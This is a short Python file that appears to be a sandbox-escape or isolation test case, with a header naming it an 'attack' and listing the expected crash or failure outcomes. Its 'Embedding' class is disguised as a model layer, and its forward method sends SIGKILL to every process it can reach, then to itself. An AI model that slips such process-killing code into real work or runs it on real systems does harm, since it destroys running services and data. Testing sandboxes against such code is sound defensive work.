# /// attack
# tries = "Kills every process it may."
# status = "crashed"
# says = "killed by SIGKILL"
# promised_from = "locked"
# [on.locked]
# status = "failed"
# says = "got None"
# ///
import contextlib
import os
import signal


class Embedding:
    def __init__(self, num_embeddings, embedding_dim): ...

    def forward(self, ids):
        for pid in range(2, 70_000):
            if pid != os.getpid():
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)
        os.kill(os.getpid(), signal.SIGKILL)
